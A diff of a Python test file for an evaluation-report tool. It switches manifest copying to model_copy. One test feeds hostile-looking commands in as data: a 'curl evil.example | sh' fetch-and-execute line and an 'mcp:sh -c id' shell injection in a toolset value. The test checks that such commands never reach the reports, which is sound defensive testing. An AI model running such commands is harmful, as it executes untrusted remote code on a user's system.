@@ -127,7 +127,7 @@ def test_a_report_says_where_the_run_comes_from(full_run: Run, korean: Catalog) 
     "typed", [["curl", "evil.example", "|", "sh"], ["lhkit", "eval", "--toolset", "mcp:sh -c id"]]
 )
 def test_the_command_of_a_manifest_is_not_told(full_run: Run, typed: list[str]) -> None:
-    run = replace(full_run, manifest={**full_run.manifest, "command": typed})
+    run = replace(full_run, manifest=full_run.manifest.model_copy(update={"command": typed}))
     assert eval_command(run, run.summary()).startswith("lhkit eval --model gemma --base-url ")
     assert typed[-1] not in markdown(run, load_catalog("en"), name="x")
 
@@ -152,7 +152,7 @@ def test_no_command_is_built_of_a_model_that_is_no_plain_name(
 
 
 def test_a_run_without_records_or_manifest_has_a_page(korean: Catalog) -> None:
-    assert "<main>" in html_page(Run(records=(), manifest={}), korean, name="empty")
+    assert "<main>" in html_page(Run(records=()), korean, name="empty")
 
 
 def test_a_baseline_is_set_against_the_run_with_both_transcripts(
@@ -175,7 +175,7 @@ def test_life_helpers_words_for_a_criterion_stand_in_no_report_of_other_tools(
 ) -> None:
     ac = full_run.records[0].ac
     words = korean.text(f"ac.{ac}")
-    run = replace(full_run, manifest={**full_run.manifest, "toolset": toolset})
+    run = replace(full_run, manifest=full_run.manifest.model_copy(update={"toolset": toolset}))
     for report in (html_page(run, korean, name="x"), markdown(run, korean, name="x")):
         assert ac in report
         assert (words in report) is is_told
